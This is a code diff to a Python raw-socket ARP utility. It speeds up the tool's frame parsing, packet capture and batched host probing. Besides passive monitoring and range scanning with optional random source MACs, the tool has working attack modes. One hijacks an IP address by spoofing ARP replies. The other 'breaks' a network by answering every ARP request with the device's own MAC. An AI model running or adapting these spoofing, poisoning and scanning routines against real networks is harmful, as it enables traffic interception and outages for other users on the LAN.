@@ -6,149 +6,158 @@
 # TX/RX ethernet ARP frames
 # OK - 27 Sep 2023
 
-import io
+import array
 import ipaddress
 import socket
+import struct
 import threading
 import time
 import random
+import select
 
-from logging import warn
 from functools import partial
+from net import attach_filter, build_arp_filter, make_batch_sender, recv_batch, recv_ring
 from utils import *
 
-# Parse an ARP frame (bytes) into variables
-def parse_arp_frame(frame: bytes):
-    stream = io.BytesIO(frame)
+# Ethernet + fixed ARP header: dest MAC, src MAC, EtherType, HTYPE, PTYPE, HLEN, PLEN, OPER
+_ARP_HDR = struct.Struct('>6s6sHHHBBH')
 
-    # Ethernet header
-    eth_header = stream.read(14)
-    ETH_DEST_MAC = mac_bytes_to_str(eth_header[:6])
-    ETH_SRC_MAC = mac_bytes_to_str(eth_header[6:12])
-    ETH_TYPE = int.from_bytes(eth_header[12:14], 'big')
-        
-    # ARP header
-    arp_header = stream.read(8)
-    ARP_HTYPE = int.from_bytes(arp_header[0:2], 'big')
-    ARP_PTYPE = int.from_bytes(arp_header[2:4], 'big')
-    ARP_HLEN = arp_header[4]
-    ARP_PLEN = arp_header[5]
-    ARP_OPER = int.from_bytes(arp_header[6:8], 'big')
-
-    if ARP_HTYPE != 1:
-        warn(f'ARP_HTYPE is not 1, ignoring as this is not an Ethernet request')
-        raise ValueError
-
-    if ARP_HLEN != 6:
-        warn(f'ARP_HLEN and ARP_HTYPE mismatch; ARP_HLEN = {ARP_HLEN}, ARP_HTYPE = {ARP_HTYPE}, ignoring frame')
-        raise ValueError
-
-    match ARP_PTYPE:
-        case 0x0800:
-            IP_PRO_VER = 4
-            IP_ADDR_LEN = 4
-        case 0x86DD:
-            IP_PRO_VER = 6
-            IP_ADDR_LEN = 16
-        case _:
-            warn(f'ARP_PTYPE is not 0x0800 or 0x86DD, ignoring as this is not an IPv4 or IPv6 request')
-            raise ValueError
-
-    if ARP_PLEN != IP_ADDR_LEN:
-        warn(f'ARP_PLEN and ARP_PTYPE mismatch; ARP_PLEN = {ARP_PLEN}, ARP_PTYPE = {ARP_PTYPE}, ignoring frame')
-        raise ValueError
+# Complete Ethernet + ARP frame for IPv4: header followed by SHA, SPA, THA and TPA
+_ARP_FRAME_IPV4 = struct.Struct('>6s6sHHHBBH6s4s6s4s')
 
-    # Sender addresses
-    arp_sender_addresses = stream.read(6 + IP_ADDR_LEN)
-    ARP_SHA_MAC_ADDR = mac_bytes_to_str(arp_sender_addresses[:6])
+# Supported (ARP_HTYPE, ARP_PTYPE, ARP_HLEN, ARP_PLEN) combinations, and the IP version each one carries
+_VALID_HEADERS = {
+    (1, 0x0800, 6, 4): 4, # Ethernet + IPv4
+    (1, 0x86DD, 6, 16): 6 # Ethernet + IPv6
+}
+
+# Constant parts of the frames we transmit
+_ETH_BCAST = b'\xff' * 6 # Broadcast MAC address
+_ETHER_ARP = b'\x08\x06' # EtherType for ARP
+_ARP_HDR_REQ_V4 = b'\x00\x01\x08\x00\x06\x04\x00\x01' # Ethernet, IPv4, 6 byte MACs, 4 byte addresses, request
+_ARP_HDR_REPLY_V4 = b'\x00\x01\x08\x00\x06\x04\x00\x02' # Ethernet, IPv4, 6 byte MACs, 4 byte addresses, reply
+_ZERO_MAC = b'\x00' * 6 # Unknown MAC address
+
+# Number of ARP requests probe() hands to the kernel per syscall
+PROBE_BATCH_SIZE = 32
+
+# Parse an ARP frame (bytes) into variables, or None if it isn't a valid Ethernet + IPv4/IPv6 ARP frame
+# MAC and IP addresses are returned as raw bytes - format them with mac_bytes_to_str() and ip_bytes_to_str() only when they're needed
+def parse_arp_frame(frame: bytes):
+    if len(frame) < _ARP_HDR.size:
+        return None
+
+    # IPv4 frames have a fixed shape, so every field can be unpacked in one call
+    is_ipv4_frame = len(frame) >= _ARP_FRAME_IPV4.size and frame[16] == 0x08 and frame[17] == 0x00
+
+    # Ethernet + ARP header
+    if is_ipv4_frame:
+        ETH_DEST_MAC, ETH_SRC_MAC, ETH_TYPE, ARP_HTYPE, ARP_PTYPE, ARP_HLEN, ARP_PLEN, ARP_OPER, ARP_SHA_MAC_ADDR, ARP_SPA_PRO_ADDR, ARP_THA_MAC_ADDR, ARP_TPA_PRO_ADDR = _ARP_FRAME_IPV4.unpack_from(frame, 0)
+    else:
+        ETH_DEST_MAC, ETH_SRC_MAC, ETH_TYPE, ARP_HTYPE, ARP_PTYPE, ARP_HLEN, ARP_PLEN, ARP_OPER = _ARP_HDR.unpack_from(frame, 0)
+
+    # Frames are dropped silently, logging every bad frame on a noisy network costs more than parsing them
+    IP_PRO_VER = _VALID_HEADERS.get((ARP_HTYPE, ARP_PTYPE, ARP_HLEN, ARP_PLEN))
+    if IP_PRO_VER is None:
+        return None
+    IP_ADDR_LEN = ARP_PLEN
+
+    # Sender and target addresses
+    if not is_ipv4_frame:
+        if len(frame) < _ARP_HDR.size + 2 * (6 + IP_ADDR_LEN):
+            return None
+
+        # Copied out as bytes so they stay hashable when the frame is a memoryview
+        ARP_SHA_MAC_ADDR = bytes(frame[22:28])
+        ARP_SPA_PRO_ADDR = bytes(frame[28:28 + IP_ADDR_LEN])
+        ARP_THA_MAC_ADDR = bytes(frame[28 + IP_ADDR_LEN:34 + IP_ADDR_LEN])
+        ARP_TPA_PRO_ADDR = bytes(frame[34 + IP_ADDR_LEN:34 + 2 * IP_ADDR_LEN])
 
-    # Target addresses
-    arp_target_addresses = stream.read(6 + IP_ADDR_LEN)
-    ARP_THA_MAC_ADDR = mac_bytes_to_str(arp_target_addresses[:6])
-
-    match IP_PRO_VER:
-        case 4:
-            ARP_SPA_PRO_ADDR = ipv4_bytes_to_str(arp_sender_addresses[6:10])
-            ARP_TPA_PRO_ADDR = ipv4_bytes_to_str(arp_target_addresses[6:10])
-        case 6:
-            ARP_SPA_PRO_ADDR = ipv6_bytes_to_str(arp_sender_addresses[6:22])
-            ARP_TPA_PRO_ADDR = ipv6_bytes_to_str(arp_target_addresses[6:22])
-    
     return ETH_DEST_MAC, ETH_SRC_MAC, ETH_TYPE, ARP_HTYPE, ARP_PTYPE, ARP_HLEN, ARP_PLEN, ARP_OPER, IP_PRO_VER, IP_ADDR_LEN, ARP_SHA_MAC_ADDR, ARP_SPA_PRO_ADDR, ARP_THA_MAC_ADDR, ARP_TPA_PRO_ADDR
 
 
+# A host seen replying to ARP requests by monitor()
+class SeenHost:
+    __slots__ = ('mac', 'count', 'last_seen')
+
+    def __init__(self, mac: str, count: int, last_seen: float):
+        self.mac = mac
+        self.count = count
+        self.last_seen = last_seen
+
+
 # Monitor for ARP messages - do not transmit!
 def monitor(interface: str):
     sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
     sock.bind((interface, 0))
+    attach_filter(sock, build_arp_filter())
     print('Listening for ARP frames...')
     print('Running in silent mode, no frames will be transmitted. We are sniffing!')
-    seen_hosts = {}
+    try:
+        frames = recv_ring(sock)
+    except OSError:
+        # Kernel can't give us a shared ring, fall back to batched reads
+        frames = recv_batch(sock.fileno(), 32)
+
+    # Printing every frame as it arrives is slower than parsing it, so output is written in batches
+    output, stop_output = start_buffered_printer()
+
+    seen_hosts: dict[str, SeenHost] = {}
     start_time = time.time()
     try:
-        while True:
-            frame = sock.recv(65535)
-            try:
-                ETH_DEST_MAC, ETH_SRC_MAC, ETH_TYPE, ARP_HTYPE, ARP_PTYPE, ARP_HLEN, ARP_PLEN, ARP_OPER, IP_PRO_VER, IP_ADDR_LEN, ARP_SHA_MAC_ADDR, ARP_SPA_PRO_ADDR, ARP_THA_MAC_ADDR, ARP_TPA_PRO_ADDR = parse_arp_frame(frame)
-            except ValueError:
+        for frame in frames:
+            result = parse_arp_frame(frame)
+            if result is None:
                 continue
+            ETH_DEST_MAC, ETH_SRC_MAC, ETH_TYPE, ARP_HTYPE, ARP_PTYPE, ARP_HLEN, ARP_PLEN, ARP_OPER, IP_PRO_VER, IP_ADDR_LEN, ARP_SHA_MAC_ADDR, ARP_SPA_PRO_ADDR, ARP_THA_MAC_ADDR, ARP_TPA_PRO_ADDR = result
 
             match ARP_OPER:
                 case 1:
-                    print(f'[REQUEST] {ETH_SRC_MAC} -> {ETH_DEST_MAC} : who is {ARP_TPA_PRO_ADDR} (IPv{IP_PRO_VER})?')
+                    output(f'[REQUEST] {mac_bytes_to_str(ETH_SRC_MAC)} -> {mac_bytes_to_str(ETH_DEST_MAC)} : who is {ip_bytes_to_str(ARP_TPA_PRO_ADDR)} (IPv{IP_PRO_VER})?')
                 case 2:
-                    print(f'[REPLY]   {ETH_SRC_MAC} -> {ETH_DEST_MAC} : {ARP_SPA_PRO_ADDR} is {ARP_SHA_MAC_ADDR} (IPv{IP_PRO_VER})')
-                    if ARP_SPA_PRO_ADDR in seen_hosts:
-                        seen_hosts[ARP_SPA_PRO_ADDR] = {
-                            'mac': ARP_SHA_MAC_ADDR,
-                            'count': seen_hosts[ARP_SPA_PRO_ADDR]['count'] + 1,
-                            'last_seen': time.time()
-                        }
+                    sender_ip = ip_bytes_to_str(ARP_SPA_PRO_ADDR)
+                    sender_mac = mac_bytes_to_str(ARP_SHA_MAC_ADDR)
+                    output(f'[REPLY]   {mac_bytes_to_str(ETH_SRC_MAC)} -> {mac_bytes_to_str(ETH_DEST_MAC)} : {sender_ip} is {sender_mac} (IPv{IP_PRO_VER})')
+                    now = time.time()
+                    host = seen_hosts.get(sender_ip)
+                    if host is None:
+                        seen_hosts[sender_ip] = SeenHost(sender_mac, 1, now)
                     else:
-                        seen_hosts[ARP_SPA_PRO_ADDR] = {
-                            'mac': ARP_SHA_MAC_ADDR,
-                            'count': 1,
-                            'last_seen': time.time()
-                        }
+                        host.mac = sender_mac
+                        host.count += 1
+                        host.last_seen = now
                 case _:
                     continue
     except KeyboardInterrupt:
+        stop_output()
         sock.close()
-        print(f'\n\nARP sniffing stopped. Seen {len(seen_hosts)} hosts in {round(time.time() - start_time)} seconds.\n')
+        now = time.time()
+        print(f'\n\nARP sniffing stopped. Seen {len(seen_hosts)} hosts in {round(now - start_time)} seconds.\n')
         table_list = [ [ 'IP Address', 'MAC Address', 'Count', 'Last Seen' ] ]
-        for host in seen_hosts:
-            table_list.append([ host, seen_hosts[host]['mac'], seen_hosts[host]['count'], f'{round(time.time() - seen_hosts[host]["last_seen"])}s ago' ])
+        for ip, host in seen_hosts.items():
+            table_list.append([ ip, host.mac, host.count, f'{round(now - host.last_seen)}s ago' ])
         print_table(table_list)
         raise KeyboardInterrupt
 
 
-# Build and transmit an ARP request
-def transmit_arp_request_ipv4(interface: str, target_ip: str, source_mac: str, source_ip: str):
-    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
-    sock.bind((interface, 0))
+# Build everything in an ARP request except the TPA, which is always the last 4 bytes of the frame
+def build_arp_request_ipv4_prefix(source_mac: str, source_ip: str) -> bytes:
+    SHA = mac_str_to_bytes(source_mac) # Our MAC address
 
     # Ethernet header
-    eth_header = mac_str_to_bytes('ff:ff:ff:ff:ff:ff') + mac_str_to_bytes(source_mac) + bytes.fromhex('0806')
+    eth_header = _ETH_BCAST + SHA + _ETHER_ARP
 
-    # ARP header
-    HTYPE = bytes.fromhex('0001') # Using Ethernet
-    PTYPE = bytes.fromhex('0800') # Using IPv4
-    HLEN = bytes.fromhex('06') # MAC address length
-    PLEN = bytes.fromhex('04') # IPv4 address length
-    OPER = bytes.fromhex('0001') # We are sending a resolution request
-    arp_header = HTYPE + PTYPE + HLEN + PLEN + OPER
+    # ARP header - we are sending a resolution request
+    arp_header = _ARP_HDR_REQ_V4
 
     # Sender addresses
-    SHA = mac_str_to_bytes(source_mac) # Our MAC address
     SPA = ipaddress.IPv4Address(source_ip).packed # Our IPv4 address
 
     # Target addresses
-    THA = bytes.fromhex('000000000000') # We don't know the target's MAC address
-    TPA = ipaddress.IPv4Address(target_ip).packed # The target's IPv4 address
+    THA = _ZERO_MAC # We don't know the target's MAC address
 
-    arp_payload = SHA + SPA + THA + TPA
-    sock.send(build_eth_frame(eth_header, arp_header + arp_payload))
-    sock.close()
+    # Not passed through build_eth_frame(), as this isn't a complete frame - any padding has to come after the TPA
+    return eth_header + arp_header + SHA + SPA + THA
 
 
 # Listens on a socket to detect ARP replies
@@ -156,32 +165,49 @@ def listen_for_arp_reply_ipv4(interface: str, target_mac: str):
     responses: list[tuple[str, str]] = []
     should_stop = threading.Event()
 
+    target_mac_bytes = mac_str_to_bytes(target_mac)
+
     def thread():
         sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
         sock.bind((interface, 0))
+        # Only replies sent to us are interesting, so let the kernel drop everything else
+        attach_filter(sock, build_arp_filter(target_mac_bytes, 2))
+        sock.setblocking(False)
+
+        # ARP frames are tiny, so receive them all into one reused buffer rather than a new 64 KB bytes per frame
+        buffer = bytearray(2048)
+        view = memoryview(buffer)
+
         while True:
             if should_stop.is_set():
+                sock.close()
                 return
 
+            # Wait for a frame, waking up regularly to check if we've been asked to stop
+            ready, _, _ = select.select([sock], [], [], 0.25)
+            if not ready:
+                continue
+
             try:
-                sock.setblocking(False)
-                frame = sock.recv(65535)
+                frame = view[:sock.recv_into(buffer)]
             except BlockingIOError:
                 continue
 
-            try:
-                ETH_DEST_MAC, ETH_SRC_MAC, ETH_TYPE, ARP_HTYPE, ARP_PTYPE, ARP_HLEN, ARP_PLEN, ARP_OPER, IP_PRO_VER, IP_ADDR_LEN, ARP_SHA_MAC_ADDR, ARP_SPA_PRO_ADDR, ARP_THA_MAC_ADDR, ARP_TPA_PRO_ADDR = parse_arp_frame(frame)
-            except ValueError:
+            result = parse_arp_frame(frame)
+            if result is None:
                 continue
+            ETH_DEST_MAC, ETH_SRC_MAC, ETH_TYPE, ARP_HTYPE, ARP_PTYPE, ARP_HLEN, ARP_PLEN, ARP_OPER, IP_PRO_VER, IP_ADDR_LEN, ARP_SHA_MAC_ADDR, ARP_SPA_PRO_ADDR, ARP_THA_MAC_ADDR, ARP_TPA_PRO_ADDR = result
 
             if ARP_OPER != 2:
                 continue
                 
-            if ETH_DEST_MAC != target_mac:
+            if ETH_DEST_MAC != target_mac_bytes:
                 continue
 
-            print(f'{ETH_SRC_MAC} -> {ETH_DEST_MAC} : {ARP_SPA_PRO_ADDR} is {ARP_SHA_MAC_ADDR} (IPv{IP_PRO_VER})')
-            responses.append((ARP_SPA_PRO_ADDR, ARP_SHA_MAC_ADDR))
+            sender_ip = ip_bytes_to_str(ARP_SPA_PRO_ADDR)
+            sender_mac = mac_bytes_to_str(ARP_SHA_MAC_ADDR)
+            print(f'{mac_bytes_to_str(ETH_SRC_MAC)} -> {mac_bytes_to_str(ETH_DEST_MAC)} : {sender_ip} is {sender_mac} (IPv{IP_PRO_VER})')
+            responses.append((sender_ip, sender_mac))
 
 
     thr = threading.Thread(target=thread, daemon=True)
@@ -197,21 +223,18 @@ def listen_for_arp_reply_ipv4(interface: str, target_mac: str):
 
 # Find live hosts - either a single address or an address range
 def probe(interface: str):
-    range = input('Enter an IP address or range (slash notation) to probe: ')
+    while True:
+        ip_range = input('Enter an IP address or range (slash notation) to probe: ')
 
-    try:
-        ip_version = determine_ip_version(range.split('/')[0])
-    except ValueError:
-        print('Invalid IP address')
-        return probe(interface)
-    
-    match ip_version:
-        case 4:
-            network = ipaddress.IPv4Network(range)
-        case 6:
-            network = ipaddress.IPv6Network(range)
-        case _:
-            raise ValueError('Invalid IP version')
+        try:
+            ip_version = determine_ip_version(ip_range.split('/')[0])
+            if ip_version == 6:
+                print('Probing is only supported for IPv4 addresses')
+                continue
+            network = ipaddress.IPv4Network(ip_range)
+            break
+        except ValueError:
+            print('Invalid IP address')
     
     default_mac_address = get_interface_mac_address(interface)
     tx_mac_address = input(f'Enter a MAC address to transmit from (or "random" to create one) [{default_mac_address}]: ').lower() or default_mac_address
@@ -222,7 +245,15 @@ def probe(interface: str):
 
     should_randomize = (input('Should I shuffle the hosts in this network? [Y/n]: ').lower() or 'y') == 'y'
 
-    hosts = list(network.hosts())
+    # Hosts are kept as packed 32-bit integers rather than a list of IPv4Address objects
+    first_host = int(network.network_address)
+    last_host = int(network.broadcast_address)
+    if network.num_addresses > 2:
+        # Skip the network and broadcast addresses, like network.hosts() does
+        first_host += 1
+        last_host -= 1
+
+    hosts = array.array('I', range(first_host, last_host + 1))
     if should_randomize:
         random.shuffle(hosts)
 
@@ -230,7 +261,7 @@ def probe(interface: str):
     timeout = int(input('Enter a timeout in seconds [5]: ') or '5')
     
     if not confirm_network_transmit():
-        return main()
+        return
     
     start_time = time.time()
     listen_thr, listen_stop, responses = listen_for_arp_reply_ipv4(interface, tx_mac_address)
@@ -241,11 +272,38 @@ def probe(interface: str):
         if len(hosts) > 1:
             print(make_progress_bar(f'Transmitting: 0 / {len(hosts)}', 0, len(hosts)), end='\r')
 
-        for host in hosts:
-            transmit_arp_request_ipv4(interface, str(host), tx_mac_address, '0.0.0.0')
-            if len(hosts) > 1:
-                print(make_progress_bar(f'Transmitting: {host} ({hosts.index(host) + 1} / {len(hosts)})      ', hosts.index(host) + 1, len(hosts)), end='\r')
-                time.sleep(wait_time)
+        # Only the TPA changes between requests, so build the rest of the frame once
+        request_prefix = build_arp_request_ipv4_prefix(tx_mac_address, '0.0.0.0')
+        tpa_offset = len(request_prefix)
+        request_len = tpa_offset + 4
+
+        # One socket for the whole burst, rather than one per host, sending up to PROBE_BATCH_SIZE requests per syscall
+        sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
+        try:
+            sock.bind((interface, 0))
+            batch_buffer, send_batch = make_batch_sender(sock.fileno(), request_len, PROBE_BATCH_SIZE)
+            for i in range(PROBE_BATCH_SIZE):
+                batch_buffer[i * request_len:i * request_len + tpa_offset] = request_prefix
+
+            # Pace against a deadline rather than sleeping a fixed time, so the send rate doesn't drift with sleep overhead
+            step_ns = int(wait_time * 1e9)
+            next_deadline = time.monotonic_ns()
+
+            for start in range(0, len(hosts), PROBE_BATCH_SIZE):
+                batch = hosts[start:start + PROBE_BATCH_SIZE]
+                for i, host in enumerate(batch):
+                    struct.pack_into('>I', batch_buffer, i * request_len + tpa_offset, host)
+                send_batch(len(batch))
+
+                if len(hosts) > 1:
+                    sent = start + len(batch)
+                    print(make_progress_bar(f'Transmitting: {ipaddress.IPv4Address(batch[-1])} ({sent} / {len(hosts)})      ', sent, len(hosts)), end='\r')
+                    next_deadline += step_ns * len(batch)
+                    now = time.monotonic_ns()
+                    if now < next_deadline:
+                        time.sleep((next_deadline - now) / 1e9)
+        finally:
+            sock.close()
         
         waiting_since_time = time.time()
 
@@ -274,23 +332,19 @@ def transmit_arp_reply_ipv4(interface: str, target_mac: str, target_ip: str, sou
     sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
     sock.bind((interface, 0))
 
+    SHA = mac_str_to_bytes(source_mac) # Our MAC address
+    THA = mac_str_to_bytes(target_mac) # We know the target's MAC address
+
     # Ethernet header
-    eth_header = mac_str_to_bytes(target_mac) + mac_str_to_bytes(source_mac) + bytes.fromhex('0806')
+    eth_header = THA + SHA + _ETHER_ARP
 
-    # ARP header
-    HTYPE = bytes.fromhex('0001') # Using Ethernet
-    PTYPE = bytes.fromhex('0800') # Using IPv4
-    HLEN = bytes.fromhex('06') # MAC address length
-    PLEN = bytes.fromhex('04') # IPv4 address length
-    OPER = bytes.fromhex('0002') # We are sending an ARP reply
-    arp_header = HTYPE + PTYPE + HLEN + PLEN + OPER
+    # ARP header - we are sending an ARP reply
+    arp_header = _ARP_HDR_REPLY_V4
 
     # Sender addresses
-    SHA = mac_str_to_bytes(source_mac) # Our MAC address
     SPA = ipaddress.IPv4Address(source_ip).packed # Our IPv4 address
 
     # Target addresses
-    THA = mac_str_to_bytes(target_mac) # We know the target's MAC address
     TPA = ipaddress.IPv4Address(target_ip).packed # The target's IPv4 address
 
     arp_payload = SHA + SPA + THA + TPA
@@ -310,9 +364,9 @@ def gracious_arp_broadcast(interface: str):
         print(F'Using a random MAC address: {tx_mac_address}')
     
     if not confirm_network_transmit():
-        return main()
+        return
 
-    def run():
+    while True:
         print(f'''
 Transmitting a Gracious ARP broadcast:
 "{target_ip} is now available at {tx_mac_address}"
@@ -321,13 +375,8 @@ Transmitting a Gracious ARP broadcast:
         transmit_arp_reply_ipv4(interface, 'ff:ff:ff:ff:ff:ff', target_ip, tx_mac_address, target_ip)
 
         should_run_again = (input('Should I make another broadcast with the same details? [Y/n]: ').lower() or 'y') == 'y'
-        if should_run_again:
-            run()
-        else:
-            main()
-    
-
-    run()
+        if not should_run_again:
+            return
 
 
 # Reply to ALL ARP requests stating we are the owner of the IP address
@@ -340,29 +389,34 @@ def break_network_reply_all(interface: str):
         print(F'Using a random MAC address: {tx_mac_address}')
     
     if input('This will likely break the network by responding to ALL requests with a reply stating this device is the owner of every IP address. Are you sure? [y/N]: ').lower() != 'y':
-        return main()
+        return
 
     if not confirm_network_transmit():
-        return main()
+        return
     
     sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
     sock.bind((interface, 0))
     print('Listening for ARP frames...')
+
+    buffer = bytearray(2048)
+    view = memoryview(buffer)
     
     while True:
-        frame = sock.recv(65535)
-        try:
-            ETH_DEST_MAC, ETH_SRC_MAC, ETH_TYPE, ARP_HTYPE, ARP_PTYPE, ARP_HLEN, ARP_PLEN, ARP_OPER, IP_PRO_VER, IP_ADDR_LEN, ARP_SHA_MAC_ADDR, ARP_SPA_PRO_ADDR, ARP_THA_MAC_ADDR, ARP_TPA_PRO_ADDR = parse_arp_frame(frame)
-        except ValueError:
+        frame = view[:sock.recv_into(buffer)]
+        result = parse_arp_frame(frame)
+        if result is None:
             continue
+        ETH_DEST_MAC, ETH_SRC_MAC, ETH_TYPE, ARP_HTYPE, ARP_PTYPE, ARP_HLEN, ARP_PLEN, ARP_OPER, IP_PRO_VER, IP_ADDR_LEN, ARP_SHA_MAC_ADDR, ARP_SPA_PRO_ADDR, ARP_THA_MAC_ADDR, ARP_TPA_PRO_ADDR = result
 
         match ARP_OPER:
             case 1:
-                print(f'[REQUEST] {ETH_SRC_MAC} -> {ETH_DEST_MAC} : who is {ARP_TPA_PRO_ADDR} (IPv{IP_PRO_VER})?')
-                transmit_arp_reply_ipv4(interface, ETH_SRC_MAC, ARP_TPA_PRO_ADDR, tx_mac_address, ARP_TPA_PRO_ADDR)
-                print(f'[INJECT]  {tx_mac_address} -> {ETH_SRC_MAC} : {ARP_TPA_PRO_ADDR} is {tx_mac_address} (IPv{IP_PRO_VER})')
+                requester_mac = mac_bytes_to_str(ETH_SRC_MAC)
+                target_ip = ip_bytes_to_str(ARP_TPA_PRO_ADDR)
+                print(f'[REQUEST] {requester_mac} -> {mac_bytes_to_str(ETH_DEST_MAC)} : who is {target_ip} (IPv{IP_PRO_VER})?')
+                transmit_arp_reply_ipv4(interface, requester_mac, target_ip, tx_mac_address, target_ip)
+                print(f'[INJECT]  {tx_mac_address} -> {requester_mac} : {target_ip} is {tx_mac_address} (IPv{IP_PRO_VER})')
             case 2:
-                print(f'[REPLY]   {ETH_SRC_MAC} -> {ETH_DEST_MAC} : {ARP_SPA_PRO_ADDR} is {ARP_SHA_MAC_ADDR} (IPv{IP_PRO_VER})')
+                print(f'[REPLY]   {mac_bytes_to_str(ETH_SRC_MAC)} -> {mac_bytes_to_str(ETH_DEST_MAC)} : {ip_bytes_to_str(ARP_SPA_PRO_ADDR)} is {mac_bytes_to_str(ARP_SHA_MAC_ADDR)} (IPv{IP_PRO_VER})')
             case _:
                 continue
 
@@ -376,10 +430,10 @@ def hijack_ip_addr(interface: str):
     should_make_announcement = (input(f'Should I make a GARP broadcast claiming {ip_addr} is now me? [Y/n]: ').lower() or 'y') == 'y'
 
     if (input(f'This may break the network by incorrectly replying to ARP requests. This device will claim to own {ip_addr}. Are you sure? [Y/n]: ').lower() or 'y') != 'y':
-        return main()
+        return
 
     if not confirm_network_transmit():
-        return main()
+        return
     
     sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
     sock.bind((interface, 0))
@@ -389,22 +443,27 @@ def hijack_ip_addr(interface: str):
         # Make the GARP broadcast
         transmit_arp_reply_ipv4(interface, 'ff:ff:ff:ff:ff:ff', ip_addr, tx_mac_address, ip_addr)
         print(F'[BRDCST]  {tx_mac_address} -> ff:ff:ff:ff:ff:ff : {ip_addr} is {tx_mac_address} (IPv4)')
+
+    buffer = bytearray(2048)
+    view = memoryview(buffer)
     
     while True:
-        frame = sock.recv(65535)
-        try:
-            ETH_DEST_MAC, ETH_SRC_MAC, ETH_TYPE, ARP_HTYPE, ARP_PTYPE, ARP_HLEN, ARP_PLEN, ARP_OPER, IP_PRO_VER, IP_ADDR_LEN, ARP_SHA_MAC_ADDR, ARP_SPA_PRO_ADDR, ARP_THA_MAC_ADDR, ARP_TPA_PRO_ADDR = parse_arp_frame(frame)
-        except ValueError:
+        frame = view[:sock.recv_into(buffer)]
+        result = parse_arp_frame(frame)
+        if result is None:
             continue
+        ETH_DEST_MAC, ETH_SRC_MAC, ETH_TYPE, ARP_HTYPE, ARP_PTYPE, ARP_HLEN, ARP_PLEN, ARP_OPER, IP_PRO_VER, IP_ADDR_LEN, ARP_SHA_MAC_ADDR, ARP_SPA_PRO_ADDR, ARP_THA_MAC_ADDR, ARP_TPA_PRO_ADDR = result
 
         match ARP_OPER:
             case 1:
-                print(f'[REQUEST] {ETH_SRC_MAC} -> {ETH_DEST_MAC} : who is {ARP_TPA_PRO_ADDR} (IPv{IP_PRO_VER})?')
-                if ARP_TPA_PRO_ADDR == ip_addr:
-                    transmit_arp_reply_ipv4(interface, ETH_SRC_MAC, ARP_TPA_PRO_ADDR, tx_mac_address, ARP_TPA_PRO_ADDR)
-                    print(f'[INJECT]  {tx_mac_address} -> {ETH_SRC_MAC} : {ARP_TPA_PRO_ADDR} is {tx_mac_address} (IPv{IP_PRO_VER})')
+                requester_mac = mac_bytes_to_str(ETH_SRC_MAC)
+                target_ip = ip_bytes_to_str(ARP_TPA_PRO_ADDR)
+                print(f'[REQUEST] {requester_mac} -> {mac_bytes_to_str(ETH_DEST_MAC)} : who is {target_ip} (IPv{IP_PRO_VER})?')
+                if target_ip == ip_addr:
+                    transmit_arp_reply_ipv4(interface, requester_mac, target_ip, tx_mac_address, target_ip)
+                    print(f'[INJECT]  {tx_mac_address} -> {requester_mac} : {target_ip} is {tx_mac_address} (IPv{IP_PRO_VER})')
             case 2:
-                print(f'[REPLY]   {ETH_SRC_MAC} -> {ETH_DEST_MAC} : {ARP_SPA_PRO_ADDR} is {ARP_SHA_MAC_ADDR} (IPv{IP_PRO_VER})')
+                print(f'[REPLY]   {mac_bytes_to_str(ETH_SRC_MAC)} -> {mac_bytes_to_str(ETH_DEST_MAC)} : {ip_bytes_to_str(ARP_SPA_PRO_ADDR)} is {mac_bytes_to_str(ARP_SHA_MAC_ADDR)} (IPv{IP_PRO_VER})')
             case _:
                 continue
 
@@ -413,15 +472,15 @@ def main(interface = None):
     if not interface:
         interface = input('Enter an interface [eth0]: ').lower() or 'eth0'
 
-    try:
-        prompt_menu('ARP Menu', [
-            ('Listen for frames - do not TX', partial(monitor, interface)),
-            ('Probe host or range - find live hosts', partial(probe, interface)),
-            ('GARP announcement - announce an IP + MAC pair', partial(gracious_arp_broadcast, interface)),
-            ('Hijack IP address - spoof ARP replies', partial(hijack_ip_addr, interface)),
-            ('Break network - reply to all requests', partial(break_network_reply_all, interface))
-        ])
-    except KeyboardInterrupt:
-        main(interface)
-    
-    main(interface)
+    # Keep returning to the menu once a mode finishes or is stopped with Ctrl+C
+    while True:
+        try:
+            prompt_menu('ARP Menu', [
+                ('Listen for frames - do not TX', partial(monitor, interface)),
+                ('Probe host or range - find live hosts', partial(probe, interface)),
+                ('GARP announcement - announce an IP + MAC pair', partial(gracious_arp_broadcast, interface)),
+                ('Hijack IP address - spoof ARP replies', partial(hijack_ip_addr, interface)),
+                ('Break network - reply to all requests', partial(break_network_reply_all, interface))
+            ])
+        except KeyboardInterrupt:
+            continue